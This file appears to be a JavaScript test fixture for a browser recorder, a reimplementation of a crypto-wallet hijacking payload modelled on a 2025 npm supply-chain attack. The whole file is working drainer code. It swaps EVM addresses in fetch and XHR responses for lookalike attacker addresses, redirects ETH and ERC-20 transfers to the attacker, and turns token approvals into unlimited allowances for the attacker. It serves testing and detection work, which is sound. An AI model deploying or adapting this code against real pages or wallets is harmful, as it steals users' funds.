// hijack.js - the recorder's in-page hijack fixture, modelled on the September 2025 npm
// payload (chalk/debug): injected before the page's own scripts (playwright addInitScript),
// never served over the network. It
//  - wraps fetch and XMLHttpRequest: every EVM address in a response body (JSON or text) is
//    replaced by the Levenshtein-closest address of the attacker pool (first of equals wins);
//  - wraps window.ethereum.request for eth_sendTransaction: a non-zero `value` to a plain
//    address goes to the attacker; ERC-20 approve (0x095ea7b3) gets the attacker as spender and
//    amount 2^256-1; transfer (0xa9059cbb) and transferFrom (0x23b872dd) the attacker as
//    recipient. (Signed raw transactions cannot be rewritten; they carry whatever address the
//    swapped response gave the page.)
// Every substitution is logged in window.__hijackLog for the recorder.
// Called with { pool: [addresses], attacker }.
(cfg) => {
  const log = (window.__hijackLog = []);
  const RE = /\b0x[a-fA-F0-9]{40}\b/g;
  function lev(a, b) {
    a = a.toLowerCase(); b = b.toLowerCase();
    let prev = Array.from({ length: b.length + 1 }, (_, j) => j);
    for (let i = 1; i <= a.length; i++) {
      const cur = [i];
      for (let j = 1; j <= b.length; j++)
        cur[j] = Math.min(prev[j] + 1, cur[j - 1] + 1, prev[j - 1] + (a[i - 1] === b[j - 1] ? 0 : 1));
      prev = cur;
    }
    return prev[b.length];
  }
  function closest(addr) {
    let best = cfg.pool[0], d = Infinity;
    for (const p of cfg.pool) { const x = lev(addr, p); if (x < d) { d = x; best = p; } }
    return best;
  }
  function swapText(text, where) {
    return text.replace(RE, (m) => {
      const r = closest(m);
      log.push({ kind: 'response', where, original: m, replacement: r });
      return r;
    });
  }

  const origFetch = window.fetch;
  window.fetch = async function (...args) {
    const res = await origFetch.apply(this, args);
    const type = res.headers.get('content-type') || '';
    if (!/json|text/.test(type)) return res;
    const text = await res.clone().text();
    const swapped = swapText(text, res.url);
    if (swapped === text) return res;
    return new Response(swapped, { status: res.status, statusText: res.statusText, headers: res.headers });
  };

  const X = XMLHttpRequest.prototype;
  const rt = Object.getOwnPropertyDescriptor(X, 'responseText');
  const rs = Object.getOwnPropertyDescriptor(X, 'response');
  Object.defineProperty(X, 'responseText', { configurable: true, get() {
    const t = rt.get.call(this);
    if (this.readyState !== 4) return t;
    if (this.__swapped === undefined) this.__swapped = swapText(t, this.responseURL);
    return this.__swapped;
  } });
  Object.defineProperty(X, 'response', { configurable: true, get() {
    const r = rs.get.call(this);
    return (typeof r === 'string' && this.readyState === 4) ? this.responseText : r;
  } });

  const MAX = 'f'.repeat(64);
  const word = (a) => a.toLowerCase().replace(/^0x/, '').padStart(64, '0');
  function rewrite(tx) {
    const t = { ...tx };
    const data = (t.data || t.input || '').toLowerCase();
    const sel = data.slice(0, 10);
    const note = (field, original, replacement) =>
      log.push({ kind: 'wallet', field, original, replacement });
    if (sel === '0x095ea7b3' && data.length >= 138) {
      note('spender', '0x' + data.slice(34, 74), cfg.attacker);
      note('amount', '0x' + data.slice(74, 138), '0x' + MAX);
      t.data = sel + word(cfg.attacker) + MAX + data.slice(138);
    } else if (sel === '0xa9059cbb' && data.length >= 74) {
      note('recipient', '0x' + data.slice(34, 74), cfg.attacker);
      t.data = sel + word(cfg.attacker) + data.slice(74);
    } else if (sel === '0x23b872dd' && data.length >= 138) {
      note('recipient', '0x' + data.slice(98, 138), cfg.attacker);
      t.data = data.slice(0, 74) + word(cfg.attacker) + data.slice(138);
    } else if (t.value && BigInt(t.value) !== 0n && t.to) {
      note('to', t.to, cfg.attacker);
      t.to = cfg.attacker;
    }
    if (t.input !== undefined && t.data !== undefined) t.input = t.data;
    return t;
  }
  function wrap(eth) {
    if (!eth || eth.__hijacked) return;
    const orig = eth.request.bind(eth);
    eth.request = (req) => {
      if (req && req.method === 'eth_sendTransaction' && Array.isArray(req.params) && req.params[0])
        req = { ...req, params: [rewrite(req.params[0]), ...req.params.slice(1)] };
      return orig(req);
    };
    eth.__hijacked = true;
  }
  if (window.ethereum) wrap(window.ethereum);
  else {
    let v;
    Object.defineProperty(window, 'ethereum', { configurable: true,
      get() { return v; }, set(x) { v = x; wrap(x); } });
  }
}
